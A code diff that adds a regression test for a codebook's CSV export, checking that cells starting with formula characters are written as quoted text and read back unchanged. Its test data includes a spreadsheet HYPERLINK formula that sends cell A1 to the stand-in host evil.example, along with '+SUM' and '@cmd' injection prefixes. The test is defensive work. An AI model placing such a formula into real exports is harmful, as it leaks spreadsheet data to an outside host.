@@ -291,3 +291,18 @@ def test_description_marker_is_only_read_when_followed_by_example_lines():
 
 def _guids(xml: bytes) -> list[str]:
     return [element.get("guid") for element in etree.fromstring(xml).iter("{*}Code")]
+
+
+def test_csv_export_writes_a_formula_theme_name_as_text_and_reads_it_back():
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    book = Codebook(
+        name="Risky",
+        themes=[
+            Theme(id="risky", name=formula, description="+SUM(1,2)", examples=["@cmd", "fine"]),
+        ],
+    )
+    text = codebook_to_csv(book)
+    cells = list(csv.DictReader(text.splitlines()))[0]
+    for column in ("name", "description", "examples"):
+        assert cells[column].startswith("'"), (column, cells[column])
+    assert codebook_from_csv(text, book.name) == book
